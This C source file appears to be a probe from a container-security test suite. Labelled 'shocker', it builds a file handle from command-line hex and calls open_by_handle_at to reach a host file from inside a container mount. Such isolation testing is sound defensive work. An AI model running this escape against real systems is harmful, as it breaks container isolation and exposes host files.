/* open-by-handle DIRECTORY TYPE HEX: a file of the host's by its number, from any mount of the same filesystem ("shocker"). */
#include "attack.h"

int main(int argc, char **argv)
{
	union {
		struct file_handle head;
		unsigned char raw[sizeof(struct file_handle) + 128];
	} handle = {.head.handle_type = (int)number_argument(argc, argv, 2)};
	const char *hex = argument(argc, argv, 3);
	int mount = open(argument(argc, argv, 1), O_RDONLY | O_DIRECTORY);

	if (mount < 0)
		broken("%s: %s", argv[1], errno_name(errno));
	if (hex[0] == '\0')
		not_here("this file system gives its files no handles");
	for (; hex[0] != '\0' && hex[1] != '\0'; hex += 2) {
		char byte[3] = {hex[0], hex[1], '\0'};

		handle.raw[sizeof(handle.head) + handle.head.handle_bytes++] = (unsigned char)strtoul(byte, NULL, 16);
	}
	judge(open_by_handle_at(mount, &handle.head, O_RDONLY), "open_by_handle_at");
}
